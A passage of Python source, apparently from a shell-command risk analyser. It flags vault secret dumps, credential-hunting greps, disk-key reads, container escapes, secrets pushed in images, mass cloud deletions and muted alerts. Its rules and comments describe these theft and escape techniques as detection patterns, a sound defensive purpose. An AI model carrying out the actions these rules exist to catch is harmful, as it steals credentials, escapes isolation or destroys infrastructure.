            # KeePassXC's command line: one entry shown or copied, or the whole database exported
            "keepassxc-cli": ("show", "clip", "export", "attachment-export"),
        }[name]
        shows = name == "pass" and bool(args) and not args[0].startswith("-") and args[0] not in ("ls", "find", "init")
        if shows or any(p in words for p in printing):
            flow.secret = True
            # (a whole vault exported; `infisical export --env=dev`, one environment's settings, is not one)
            dump = (any(w in args for w in ("export", "--export", "--all")) and name != "infisical") or (
                name in ("op",) and "list" in args
            )
            self._add(
                "shell.secret-read",
                RiskLevel.HIGH if dump else RiskLevel.MEDIUM,
                Category.EXFILTRATION,
                f"{name} " + ("exports every stored secret" if dump else "prints a stored secret"),
                node,
            )

    def _rule_grep(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        flags, operands = W.options(args)
        patterns = [*W.option_values(args, "-e", "--regexp"), *operands[:1]]
        if any(_PERSONAL_ID_PATTERN.search(p) for p in patterns) and any(f in flags for f in ("o", "--only-matching")):
            # pulling SSNs, card numbers, record numbers or addresses out of files: people's identifiers
            flow.secret = True
            self._add("shell.secret-read", RiskLevel.MEDIUM, Category.EXFILTRATION,
                      f"{name} extracts people's identifiers (SSNs, card or record numbers, IP addresses)",
                      node)  # fmt: skip
        recursive = bool(flags & {"r", "R", "--recursive"}) or name == "rg"
        hunting = any(k in p.lower() for p in patterns for k in T.CREDENTIAL_WORDS)
        if hunting and operands[1:] and not recursive:
            flow.secret = True  # `grep -E 'password|token' server.conf`: the lines that hold the secrets
        if not recursive or not operands:
            return
        roots = operands[1:] or ["."]
        kinds = [paths.classify(r).kind for r in roots]
        outside = any(k not in (paths.PathKind.WORKDIR, paths.PathKind.RELATIVE, paths.PathKind.TEMP) for k in kinds)
        if hunting and outside:
            flow.secret = True
            self._add(
                "shell.credential-search",
                RiskLevel.HIGH,
                Category.EXFILTRATION,
                f"{name} searches {' '.join(roots)} for credentials ({operands[0]})",
                node,
            )

    def _rule_stress(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        # `stress-ng --cpu 2 --timeout 30s`: a bounded test; without a time limit it runs until killed
        limit = W.option_values(args, "--timeout", "-t")
        seconds = _duration_seconds(limit[0]) if limit else None
        bounded = seconds is not None and 0 < seconds <= 600 and name != "hping3"  # -t 0: no limit
        self._add(
            "shell.stress",
            RiskLevel.MEDIUM if bounded else RiskLevel.HIGH,
            Category.RESOURCE,
            f"{name} loads CPU/memory/IO for {limit[0]}" if bounded else f"{name} deliberately exhausts CPU/memory/IO",
            node,
        )

    def _rule_staking(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Validators' voluntary exits (irreversible: the stake stops earning and is withdrawn), and a validator
        client started with keys copied from another machine (two signers of one key: slashed)."""
        words = " ".join(a for a in args if not a.startswith("-"))
        if re.search(r"\bvalidator\s+exit\b|\bvoluntary-exit\b|\bexit\s+validator\b", words) or (
            name == "ethdo" and "exit" in words
        ):
            self._add("shell.staking", RiskLevel.HIGH, Category.PROCESS,
                      f"{name} submits a validator's voluntary exit (irreversible)", node)  # fmt: skip
        source = self._source.decode("utf-8", "replace")
        keys = W.option_values(args, "--validator-keys", "--validators-dir", "--keys-dir", "--wallet-dir")
        if keys and _COPIED_KEYS.search(source):
            self._add("shell.staking", RiskLevel.HIGH, Category.PROCESS,
                      f"{name} runs validators with keys copied from another machine (double signing is slashed)",
                      node)  # fmt: skip

    def _rule_sap_control(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``sapcontrol … -function OSExecute "CMD" …``: a command run on the SAP host as its administrator (what
        it runs is analysed as shell code there)."""
        if sap_control_function(args) == "OSExecute":
            command = next((a for a in args[args.index("OSExecute") + 1 :] if not a.isdigit()), "")
            if command:
                self._nested(command, "shell", node, f"{name} OSExecute")
            self._add("shell.remote-exec", RiskLevel.MEDIUM, Category.PROCESS,
                      f"{name} runs an operating-system command on an SAP host", node)  # fmt: skip

    def _rundeck(self, args: list[str], node: Any) -> None:
        """``rd adhoc -p production -F '.*' -- CMD``: CMD run on every node the filter picks (analysed as shell)."""
        if args[0] == "adhoc" and "--" in args:
            command = " ".join(args[args.index("--") + 1 :])
            if command.strip(HOLE):
                self._nested(command, "shell", node, "rd adhoc (on every node the filter picks)")
        if args[:2] == ["projects", "delete"]:
            every = bool(self._loops) or self._mass or bool(self._stdin_listing) or HOLE in " ".join(args)
            self._add("shell.cloud-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      "rd projects delete removes " + ("every Rundeck project a listing gives" if every else
                                                       "a Rundeck project") + " (its jobs, nodes and keys)",
                      node)  # fmt: skip

    def _rule_dmsetup(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``dmsetup table --showkeys``: the device mapper's tables with the volume keys of every open encrypted
        disk (whoever has them decrypts the disks, no passphrase needed)."""
        if "table" in args and "--showkeys" in args:
            flow.secret = True
            self._add("shell.secret-read", RiskLevel.HIGH, Category.EXFILTRATION,
                      "dmsetup prints the volume keys of the open encrypted disks", node)  # fmt: skip

    def _rule_binary_patch(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``r2 -w -c 'wa …' /opt/app/bin/app``: an installed program's machine code rewritten in place (a licence
        check cracked, a check skipped); a binary in the project or /tmp is someone's own build."""
        if "-w" not in args:
            return
        for target in W.options(args, frozenset({"-c", "-i", "-e", "-a", "-b", "-s", "-B", "-m"}))[1]:
            info = paths.classify(target)
            if info.kind not in (paths.PathKind.RELATIVE, paths.PathKind.WORKDIR, paths.PathKind.TEMP):
                self._add("shell.binary-patch", RiskLevel.HIGH, Category.FILESYSTEM,
                          f"{name} -w rewrites the machine code of an installed program ({paths.describe(info)})",
                          node)  # fmt: skip

    def _rule_tape(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``mt -f /dev/nst0 erase``: a tape's every backup erased (nothing on it can be restored)."""
        if "erase" in W.options(args, frozenset({"-f", "-t"}))[1]:
            self._add("shell.delete", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"{name} erases a whole tape (every backup on it)", node)  # fmt: skip

    def _rule_traffic_replay(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``tcpreplay --topspeed --loop=0 -i bond0 *.pcap``: captured traffic sent onto a live network as fast as
        the card goes, or forever (a flood); once at the recorded speed onto a test interface is an IDS test."""
        endless = any(a in ("--loop=0", "-l0") for a in args) or W.option_values(args, "--loop", "-l")[:1] == ["0"]
        flooding = endless or any(a in ("--topspeed", "-t") for a in args)
        interfaces = [*W.option_values(args, "-i", "--intf1"), *(a.split("=", 1)[1] for a in args
                                                                 if a.startswith("--intf1="))]  # fmt: skip
        lab = bool(interfaces) and all(i.startswith(("lo", "dummy", "veth", "tap", "tun")) for i in interfaces)
        if flooding and not lab:
            self._add("shell.flood", RiskLevel.HIGH, Category.RESOURCE,
                      f"{name} replays captured traffic onto a live network "
                      + ("in an endless loop" if endless else "as fast as the card sends"), node)  # fmt: skip

    def _rule_container(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        args = W.skip_options(
            args, {"-H", "--host", "-c", "--context", "--config", "-l", "--log-level", "-n", "--namespace"}
        )
        if args[:1] == ["compose"]:
            # `docker compose exec -T db psql -c …`: a command run in one service's container, like `docker exec`
            services = W.skip_options(args[1:], _COMPOSE_VALUED)
            files = W.option_values(args[1:], "--project-directory", "-f", "--file")
            # (a compose file named from the folder `cd` went to: `cd /opt/ghostfolio && … -f docker-compose.yml`)
            where = posixpath.join(self._cwd or "", files[0]) if files else self._cwd or ""
            # (not a test or development stack of the project, `-f docker-compose.test.yml`: thrown away by design)
            throwaway = _THROWAWAY_COMPOSE.search(posixpath.basename(files[0])) is not None if files else False
            installed = where.startswith(("/opt/", "/srv/", "/var/lib/", "/var/www/")) and not throwaway
            if services[:1] == ["down"] and any(a in ("-v", "--volumes") for a in services[1:]) and installed:
                # `cd /opt/authentik && docker compose down --volumes`: an installed service's databases deleted
                self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                          f"{name} compose down --volumes deletes an installed stack's volumes (its databases' data)",
                          node)  # fmt: skip
            scaled = [int(v.rpartition("=")[2]) for v in W.option_values(services, "--scale")
                      if v.rpartition("=")[2].isdigit()]  # fmt: skip
            if scaled and max(scaled) >= MASS_COUNT:
                self._add("shell.resource", RiskLevel.HIGH, Category.RESOURCE,
                          f"{name} compose runs {max(scaled)} copies of a service on one host (memory, connections)",
                          node)  # fmt: skip
            args = services if services[:1] == ["exec"] else args
        if args[:1] in (["container"], ["volume"], ["image"]) and len(args) > 1:
            args = [args[0] + " " + args[1], *args[2:]]
        verb = args[0] if args else ""
        flags = {a for a in args[1:] if a.startswith("-")}
        listed = bool(self._loops) or self._mass or bool(self._stdin_listing) or self._repeated
        volumes = [a for a in args[1:] if not a.startswith("-")] if verb in ("volume rm", "volume remove") else []
        # (a test's or a throwaway volume is its own to remove: `casemgmt_test_pgdata`, `chroma-it-data`)
        volumes = [v for v in volumes if not _THROWAWAY_VOLUME.search(v)]
        installed = (self._cwd or "").startswith(("/opt/", "/srv/", "/var/lib/", "/var/www/"))
        if any(_DATA_VOLUME.search(v) for v in volumes) or (
            volumes and listed and installed and any(HOLE in v for v in volumes)
        ):
            # (`docker volume rm -f portainer_data`, each of `docker volume ls -q --filter name=app_` in /srv/app)
            self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"{name} {verb} deletes an application's data volume (its database, its uploads)",
                      node)  # fmt: skip
        if verb == "service" and args[1:2] == ["scale"] and listed and any(
            HOLE in a and a.endswith("=0") for a in args[2:]
        ):
            self._add("shell.service", RiskLevel.HIGH, Category.PROCESS,
                      f"{name} service scale stops every service a listing gives (each scaled to zero)",
                      node)  # fmt: skip
        environment = re.search(r"\.Config\.Env|\benv\b|printenv", " ".join(args))
        if verb in ("inspect", "container inspect", "exec") and environment:
            flow.secret = True  # a container's environment: the credentials it was started with
        if verb == "tag" and len(args) >= 3 and _private_registry(args[1]) and not _private_registry(args[2]):
            self._public_tags.add(args[2])  # a private image about to be published under another name
        if verb == "push" and any(a in self._public_tags for a in args[1:]):
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} push publishes a private registry's image on a public one", node)  # fmt: skip
        if verb in ("build", "buildx build", "image build") or (verb == "buildx" and "build" in args[1:2]):
            baked = [b.split("=", 1)[0] for b in W.option_values(args, "--build-arg")
                     if T.CREDENTIAL_NAME.search(b.split("=", 1)[0])]  # fmt: skip
            if baked:
                # a build argument stays in the image's history (and in a layer when ENV or RUN uses it)
                self._baked_credentials.update(W.option_values(args, "-t", "--tag"))
                self._add("shell.exfiltration", RiskLevel.MEDIUM, Category.EXFILTRATION,
                          f"{name} build passes {baked[0]} as a build argument (kept in the image's history)",
                          node)  # fmt: skip
        if verb == "push" and any(a in self._baked_credentials for a in args[1:]):
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} push publishes an image built with credentials as build arguments", node)  # fmt: skip
        loaded = W.option_values(args, "-i", "--input") if verb in ("load", "image load") else []
        if any(f in self.downloaded or posixpath.basename(f) in self.downloaded for f in loaded):
            # an image tarball from the network: its entrypoint is someone else's program, about to be run
            self._runs_download(f"{name} load", loaded[0], node)
        if verb in ("run", "container run"):
            image = next(iter(W.skip_options(args[1:], T.CONTAINER_VALUED)), "")
            if "/" in image.split(":", 1)[0]:
                flow.download = True  # what a namespaced image prints is that image's author's (evaluated: code)
        if verb in ("ps", "pods", "container ls", "container list", "volume ls", "volume list", "images", "image ls"):
            filtered = any(a.startswith(("-f", "--filter")) for a in args[1:])
            quiet = any(a in ("-q", "--quiet") or (a.startswith("-") and not a.startswith("--") and "q" in a)
                        for a in args[1:])  # fmt: skip
            # without -a only the running ones, but all of them: every project's, not only this one's
            flow.every_container = quiet and not filtered
            return
        detached = any(a in ("-d", "--detach") or re.fullmatch(r"-[a-z]*d[a-z]*", a) for a in flags)
        if verb in ("run", "container run") and detached and any(loop.huge or loop.endless for loop in self._loops):
            self._add("shell.cloud-abuse", RiskLevel.HIGH, Category.RESOURCE,
                      f"{name} run starts a container in every round of a loop of hundreds (takes the host)",
                      node)  # fmt: skip
        removes = verb in ("rm", "kill", "stop", "rmi", "container rm", "container kill", "container stop",
                           "volume rm", "image rm", "rmp", "stopp")  # fmt: skip
        if removes and flow.every_container:
            self._add(
                "shell.kill",
                RiskLevel.HIGH,
                Category.PROCESS,
                f"{name} {verb} acts on every container (or volume) on the engine, not only this project's",
                node,
            )
        every = "--all" in flags or any(f.startswith("-") and not f.startswith("--") and "a" in f for f in flags)
        prunes_data = (verb == "system" and args[1:2] == ["prune"] and "--volumes" in flags) or (
            verb == "volume prune" and every
        )
        if prunes_data:
            self._add(
                "shell.data-destroy",
                RiskLevel.HIGH,
                Category.FILESYSTEM,
                f"{name} {' '.join(args[:2])} deletes every unused volume (their data is gone)",
                node,
            )
        if verb not in ("run", "create", "exec"):
            return
        loop = self._loops[-1] if self._loops else None
        if verb == "run" and loop is not None and loop.endless and not loop.paced:
            self._add("shell.fork-storm", RiskLevel.HIGH, Category.RESOURCE,
                      f"{name} starts containers in an endless loop (until the host runs out)", node)  # fmt: skip
        if verb != "exec" and unauthenticated_store(
            W.option_values(args, "-e", "--env"), W.option_values(args, "-p", "--publish")
        ):
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                      f"{name} {verb} publishes a data store with its logins switched off on every interface",
                      node)  # fmt: skip
        rest = W.skip_options(args[1:], T.CONTAINER_VALUED)
        if verb != "exec" and rest:
            self._secrets_into_image(name, rest[0], args, node)
        if verb == "exec" and len(rest) > 1:
            self._argv(rest[1:], node, flow, [])  # (its output is what `docker exec` prints)
        else:
            for arg in rest[1:]:
                self._shipped_payloads(arg, node, f"{name} {verb}")
        joined = " ".join(args)
        host_root = any(
            a.split(":", 1)[0] in ("/", "/etc", "/root", "/var/run/docker.sock", "/run/docker.sock", "/proc", "/sys")
            # a writable mount of where the host starts things (cron, units, profiles): the container plants them
            or (a.split(":", 1)[0].startswith(_HOST_START_DIRS) and not a.endswith((":ro", ":ro,z", ":ro,Z")))
            for a in args
            if ":" in a and a.startswith("/")
        )
        escape = (
            "--privileged" in args
            or host_root
            or any(a in ("--pid=host", "--net=host", "--network=host", "--userns=host") for a in args)
            or "--cap-add=SYS_ADMIN" in joined
            or "--cap-add=ALL" in joined
        )
        # (`docker run --privileged --rm tonistiigi/binfmt --install arm64`: the emulators registered for
        # multi-architecture builds, the one thing those images do)
        binfmt = "--privileged" in args and any(_BINFMT_IMAGE.match(a) for a in args) and not host_root
        # (`-v /var/run/docker.sock:/var/run/docker.sock portainer/agent`: a container manager's own published
        # image, given the engine it manages, as its documentation has it: nothing else of the host)
        manager = (
            "--privileged" not in args
            and rest[:1] != []
            and _CONTAINER_MANAGER_IMAGE.match(rest[0]) is not None
            and all(a.split(":", 1)[0] in _MANAGER_MOUNTS for a in args if ":" in a and a.startswith("/"))
        )
        if escape:
            self._add(
                "shell.container-escape",
                RiskLevel.MEDIUM if binfmt or manager else RiskLevel.HIGH,
                Category.PRIVILEGE,
                f"{name} {args[0]} gives the container the host's privileges or root file system"
                + (" (a container manager's own image, given the engine it manages)" if manager else ""),
                node,
            )

    def _rule_plistbuddy(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``PlistBuddy -c "Add :Label …" FILE``: the property list edited is written (a LaunchAgent's included)."""
        commands = W.option_values(args, "-c")
        files = [a for i, a in enumerate(args) if not a.startswith("-") and (i == 0 or args[i - 1] != "-c")]
        if files and any(c.split(" ", 1)[0].lower() in ("add", "set", "merge", "import", "delete", "clear")
                         for c in commands):  # fmt: skip
            self._write(paths.classify(files[-1]), node, via=name)

    def _rule_amtool(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Alertmanager's CLI: a silence whose matchers match every alert mutes every page."""
        words = [a for a in args if not a.startswith("-")]
        if words[:2] != ["silence", "add"]:
            return
        matchers = [w for w in words[2:] if "=" in w]
        if silences_everything(matchers):
            self._add("shell.defense-evasion", RiskLevel.HIGH, Category.PRIVILEGE,
                      "amtool silences every alert (nobody is paged while it lasts)", node)  # fmt: skip

    def _rule_system_container(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """LXD/Incus: a privileged container (root inside is root on the host), the host's root or start-up
        folders attached as a disk device, and commands run inside (``lxc exec NAME -- CMD``)."""
        settings = [a.lower().replace(" ", "") for a in args if "=" in a]
        privileged = any(s in ("security.privileged=true", "security.privileged=1") for s in settings) or (
            "security.privileged" in args and any(a.lower() in ("true", "1") for a in args)
        )
        sources = [a.split("=", 1)[1] for a in args if a.startswith("source=")]
        host_root = any(
            src.rstrip("/") in ("", "/etc", "/root", "/proc", "/sys", "/var/run", "/run")
            or src.startswith(_HOST_START_DIRS)
            or paths.classify(src).kind in (paths.PathKind.ROOT, paths.PathKind.HOME_TOP)
            or paths.classify(src).secret
            for src in sources
        )
        # the host's container manager's own socket (whoever talks to it starts privileged containers)
        host_root = host_root or any(
            src.endswith(_SYSTEM_CONTAINER_SOCKETS) or posixpath.basename(src) in T.ENGINE_SOCKETS for src in sources
        )
        unconfined = any("apparmor.profile=unconfined" in s or s == "lxc.cap.drop=" for s in settings)
        if privileged or host_root or unconfined:
            what = ("attaches the host's root, home or start-up folders or its container manager's socket to a "
                    "container" if host_root else "makes a container privileged (its root is root on the host)")
            self._add("shell.container-escape", RiskLevel.HIGH, Category.PRIVILEGE, f"{name} {what}", node)
        verb = [a for a in args if not a.startswith("-")][:2]
        source = self._source.decode("utf-8", "replace")
        listed = re.search(rf"\b{name}\s+(?:list|ls|query)\b", source) is not None
        if self._loops and listed and (verb[:1] in (["delete"], ["rm"]) or verb == ["snapshot", "delete"]):
            what = "snapshot delete" if verb == ["snapshot", "delete"] else verb[0]
            self._add("shell.cloud-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"{name} {what} deletes every container or snapshot a listing gives", node)  # fmt: skip
        if verb[:1] in (["launch"], ["init"], ["copy"]) and any(loop.huge for loop in self._loops):
            self._add("shell.cloud-abuse", RiskLevel.HIGH, Category.RESOURCE,
                      f"{name} {verb[0]} starts thousands of containers (the host's CPU, memory and disk run out)",
                      node)  # fmt: skip
        trusted = args[:3] in (["config", "trust", "add"], ["config", "trust", "add-certificate"])
        if trusted and any(a in self.downloaded or posixpath.basename(a) in self.downloaded for a in args[3:]):
            self._add("shell.container-escape", RiskLevel.HIGH, Category.PRIVILEGE,
                      f"{name} trusts a client certificate downloaded from the network (whoever holds its key "
                      "controls every container)", node)  # fmt: skip
        if "exec" in args[:1] and "--" in args:
            inner = args[args.index("--") + 1 :]
            if inner:
                self._argv(inner, node, _Flow(), [])

    def _secrets_into_image(self, name: str, image: str, args: list[str], node: Any) -> None:
        """Keys mounted (``-v ~/.ssh:/in``) or credentials passed (``-e GITHUB_TOKEN``) into a container: its
        image's code holds them. An official image (no namespace) is the tool it says; any other, anyone's."""
        mounted = [v.split(":", 1)[0] for v in W.option_values(args, "-v", "--volume")]
        mounted += [m.group(1) for v in W.option_values(args, "--mount") for m in [_MOUNT_SOURCE.search(v)] if m]
        secrets = [src for src in mounted if paths.classify(src).secret]
        passed = [e for e in W.option_values(args, "-e", "--env") if "=" not in e and T.CREDENTIAL_NAME.search(e)]
        if not secrets and len(passed) < 2:
            return
        official = "/" not in image.split(":", 1)[0]
        what = secrets[0] if secrets else f"credentials ({', '.join(passed[:3])})"
        self._add("shell.exfiltration", RiskLevel.MEDIUM if official else RiskLevel.HIGH, Category.EXFILTRATION,
                  f"{name} run hands {what.replace(HOLE, '…')} to the image {image}", node)  # fmt: skip

    def _rule_cloud(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Cloud and cluster CLIs deleting whole resources (buckets, instances, projects, namespaces),
        granting rights, opening access, reading secrets, running commands in containers."""
        if name == "oc":
            # OpenShift's client takes kubectl's verbs as they are, and adds its own
            name, args = "kubectl", self._openshift(args, node)
        self._control_plane(name, args, node, flow)
        if name == "az":
            self._rule_directory(name, args, node, flow)
        if name in BACKUP_TOOLS:
            self._rule_backup(name, args, node, flow)  # `aws s3 sync`, `gsutil rsync`
        if (name == "az" and args[:3] == ["vm", "run-command", "invoke"]) or (
            name == "az" and args[:2] == ["vmss", "run-command"]
        ):
            self._rule_fleet("az", args, node, flow)  # `--scripts "…"`: a shell script run on the machine
        if name == "aws" and args[:2] == ["ssm", "send-command"]:
            self._rule_fleet(name, args, node, flow)
        positional = W.options(args[2:], _AWS_S3_VALUED)[1]
        uploads = args[:2] in (["s3", "cp"], ["s3", "sync"], ["s3", "mv"]) and positional[-1:] != [] and (
            positional[-1].startswith("s3://")
        )
        if name == "aws" and uploads and node is not None and _LITERAL_AWS_KEY.search(self._text(node)):
            # `AWS_ACCESS_KEY_ID=AKIA… aws s3 cp dump s3://…`: keys written in the script, not the machine's own
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      "aws s3 copies files with access keys written in the script (another account's bucket)",
                      node)  # fmt: skip
        words = set(args)
        if name in ("terraform", "tofu", "terragrunt") and "apply" in words:
            self._iac_applied = True  # a `destroy` later tears down what this script stood up
            unattended = any(a in ("-auto-approve", "--auto-approve") for a in args)
            if unattended and production_target(" ".join([self._source.decode("utf-8", "replace"), *args])):
                self._add("shell.cloud-change", RiskLevel.HIGH, Category.PROCESS,
                          f"{name} applies changes to production infrastructure without review (-auto-approve)",
                          node)  # fmt: skip
        if name == "helm" and words & {"upgrade", "install"}:
            self._helm_values(args, node)
        if name in ("terraform", "tofu", "terragrunt") and ("apply" in words or "plan" in words):
            for assignment in W.option_values(args, "-var"):
                key, _, value = assignment.partition("=")
                if re.search(r"count|replicas|instances|size", key) and value.isdigit() and int(value) >= MASS_COUNT:
                    self._add("shell.cloud-abuse", RiskLevel.HIGH, Category.RESOURCE,
                              f"{name} sets {key} to {int(value):,} (a mass launch)", node)  # fmt: skip
        for tool, printing in T.IAC_SECRET_PRINTS:
            if tool == name and all(w in words for w in printing):
                flow.secret = True  # state and stack outputs hold database passwords, keys, tokens in clear
                self._add("shell.secret-read", RiskLevel.MEDIUM, Category.EXFILTRATION,
                          f"{name} {' '.join(printing)} prints the infrastructure's secrets", node)  # fmt: skip
        if name in ("kubectl", "oc") and "delete" in words and any(HOLE in a for a in args):
            # `kubectl get ns -o name | xargs kubectl delete`: whatever the listing printed
            words.add("--all")
        if name == "aws" and args[:1] == ["iot"] and (self._mass or self._loops) and (
            words & {"delete-thing", "delete-certificate", "delete-policy", "delete-ca-certificate"}
        ):
            # every thing or certificate of the registry: the whole device fleet loses its identity
            self._add("shell.cloud-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"aws iot {args[1] if len(args) > 1 else ''} deletes the device registry's entries "
                      "(every one a loop or a listing gives)", node)  # fmt: skip
            return
        image_delete = (
            (name == "gcloud" and args[:4] == ["artifacts", "docker", "images", "delete"])
            or (name == "aws" and args[:2] in (["sqs", "purge-queue"], ["sqs", "delete-queue"]))
            or (name == "aws" and args[:2] == ["ecr", "batch-delete-image"])
            or (name == "az" and args[:3] in (["acr", "repository", "delete"], ["acr", "manifest", "delete"]))
            or (name in ("crane", "skopeo") and args[:1] == ["delete"])
            or (name == "aws" and args[:2] == ["backup", "delete-recovery-point"])
            or (name == "regctl" and args[:2] in (["tag", "delete"], ["manifest", "delete"], ["image", "delete"]))
        )
        if name in ("terraform", "tofu") and "state" in args and ("rm" in args or "remove" in args):
            # the resources stay; terraform forgets them (every address a listing gives: the stack orphaned)
            many = self._mass or bool(self._loops) or bool(self._stdin_listing) or self._repeated
            self._add("shell.cloud-destroy", RiskLevel.HIGH if many else RiskLevel.MEDIUM, Category.FILESYSTEM,
                      f"{name} state rm removes " + ("every address a listing gives" if many else "an address")
                      + " from the state (terraform forgets what it manages)", node)  # fmt: skip
            return
        if image_delete and (self._mass or self._loops or self._stdin_listing or self._repeated):
            # every image a registry listing gives (deployments can no longer pull what they run), every queue's
            # messages
            self._add("shell.cloud-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"{name} {' '.join(args[:2])} deletes every image or queue a listing gives", node)  # fmt: skip
            return
        kubectl_verb = W.options(args, valued=_KUBECTL_VALUED)[1][:1] if name in ("kubectl", "oc") else ["delete"]
        if any(a.startswith(("--dry-run", "--dryrun")) and not a.endswith(("=none", "=false")) for a in args):
            return  # (`jf rt del … --dry-run`, `kubectl delete --dry-run=client`: what would go is listed)
        for tool, needed in T.CLOUD_DESTROY:
            if tool == name and all(w in words for w in needed) and kubectl_verb == ["delete"]:
                # (`kubectl auth can-i delete nodes -A` asks a question; it deletes nothing)
                text = self._text(node) if node is not None else ""
                created = self.created_vars
                if created and not self._loops and any(f"${v}" in text or f"${{{v}}}" in text for v in created):
                    return  # what this script created a moment ago (a smoke-test instance), cleaned up
                if any(_PREVIEW_WORKSPACE.search(a) or _CI_RESOURCE.match(a) for a in args):
                    # (`terraform workspace delete pr-42`, `doctl compute droplet delete "ci-e2e-$CI_PIPELINE_ID"`)
                    self._add("shell.cloud-destroy", RiskLevel.MEDIUM, Category.FILESYSTEM,
                              f"{name} {' '.join(needed)} removes a pull request's preview or a CI job's own "
                              "resources", node)  # fmt: skip
                    return
                if name in ("aws", "gsutil", "gcloud", "az") and any(
                    _SCRATCH_PREFIX.search(a) for a in args if a.startswith(("s3://", "gs://"))
                ):
                    self._add("shell.cloud-destroy", RiskLevel.MEDIUM, Category.FILESYSTEM,
                              f"{name} {' '.join(needed)} deletes a temporary or scratch prefix of a bucket",
                              node)  # fmt: skip
                    return
                if name in ("kubectl", "oc") and _LOCAL_CLUSTER.match(cluster_words(args)):
                    self._add("shell.cloud-destroy", RiskLevel.MEDIUM, Category.FILESYSTEM,
                              f"{name} {' '.join(needed)} deletes objects of a local development cluster "
                              f"({cluster_words(args).split()[0]})", node)  # fmt: skip
                    return
                if self._iac_applied and not production_target(self._source.decode("utf-8", "replace")):
                    self._add("shell.cloud-destroy", RiskLevel.MEDIUM, Category.FILESYSTEM,
                              f"{name} destroys what this script applied a moment ago (a throwaway stack)",
                              node)  # fmt: skip
                    return
                many = self._mass or bool(self._loops) or HOLE in " ".join(args)
                source = self._source.decode("utf-8", "replace")
                if many and _PAST_THE_NEWEST.search(source) and ("reverse" in source or "sort" in source):
                    self._add("shell.cloud-destroy", RiskLevel.MEDIUM, Category.FILESYSTEM,
                              f"{name} {' '.join(needed)} deletes what a sorted listing has past its newest few "
                              "(a retention)", node)  # fmt: skip
                    return
                if name in ("kubectl", "oc") and many and _PREVIEW_SELECTOR.search(source):
                    self._add("shell.cloud-destroy", RiskLevel.MEDIUM, Category.FILESYSTEM,
                              f"{name} {' '.join(needed)} deletes the preview or test environments a label selects",
                              node)  # fmt: skip
                    return
                self._add(
                    "shell.cloud-destroy",
                    RiskLevel.HIGH,
                    Category.FILESYSTEM,
                    f"{name} {' '.join(needed)} deletes cloud resources"
                    + (" (every one a loop or a listing gives)" if many else ""),
                    node,
                )
                return

    def _helm_values(self, args: list[str], node: Any) -> None:
        """``helm upgrade --set …``: replicas by the thousand, a chart's own login or security turned off."""
        values = W.option_values(args, "--set", "--set-string", "--set-json")
        for assignment in values:
            key, _, value = assignment.partition("=")
            if re.search(r"(?i)replica(?:s|count)$", key) and value.isdigit() and int(value) >= MASS_COUNT:
                self._add("shell.cloud-abuse", RiskLevel.HIGH, Category.RESOURCE,
                          f"helm sets {key} to {int(value):,} (a mass launch)", node)  # fmt: skip
        pairs = [a.partition("=")[::2] for a in values]
        # a chart's configuration file given inline: `kibana\.yml=xpack.security.enabled: false`
        pairs += [m for _, value in pairs for m in re.findall(r"([\w.]+):\s*([\w\"']+)", value)]
        keys = {key.replace("\\", "").lower(): value.strip("\"'").lower() for key, value in pairs}
        guards = [key for key, value in keys.items() if protection_off(key.rsplit(".", 1)[-1], value)
                  or protection_off(key, value)]  # fmt: skip
        anonymous_admin = any(k.endswith("anonymous.enabled") and v == "true" for k, v in keys.items()) and any(
            k.endswith("anonymous.org_role") and v in ("admin", "editor") for k, v in keys.items()
        )
        if guards or anonymous_admin:
            what = "anonymous visitors administrators" if anonymous_admin else f"{guards[0]} off"
            self._add("shell.weakened-settings", RiskLevel.HIGH, Category.PRIVILEGE,
                      f"helm deploys a chart with {what} (its login or security switched off)", node)  # fmt: skip

    def _control_plane(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        # (`aws --profile personal s3 cp …`: an option's value is no subcommand)
        positional = W.options(args, _CLOUD_VALUED)[1]
        if name == "gcloud" and positional[:1] in (["alpha"], ["beta"], ["preview"]):
            positional = positional[1:]  # a release track: `gcloud beta billing ...` is `gcloud billing ...`
        endpoints = W.option_values(args, "--endpoint-url")
        copied = positional[2:3] if positional[:2] in (["s3", "cp"], ["s3", "sync"], ["s3", "mv"]) else []
        if copied and personal_account(" ".join(args)) and (
            copied[0] == "-" or copied[0] in self._bulk_files or _DUMP_NAME.search(" ".join(positional[2:]))
            or paths.classify(copied[0]).kind in (paths.PathKind.SYSTEM, paths.PathKind.EXTERNAL)
        ):
            # a dump, or a server's data, put in someone's own bucket or account
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} s3 {positional[1]} copies a dump or a server's data into a personal account",
                      node)  # fmt: skip
        if positional[:2] in (["s3", "cp"], ["s3", "sync"], ["s3", "mv"]) and any(map(foreign_endpoint, endpoints)):
            # (asking the store to encrypt what it keeps is what its owner does for backups: the organisation's own;
            # so is a bucket named for backups)
            encrypted = any(a == "--sse" or a.startswith("--sse=") for a in args) or any(
                own_backup_store(a, e) for a in positional[2:] if a.startswith("s3://") for e in endpoints
            )
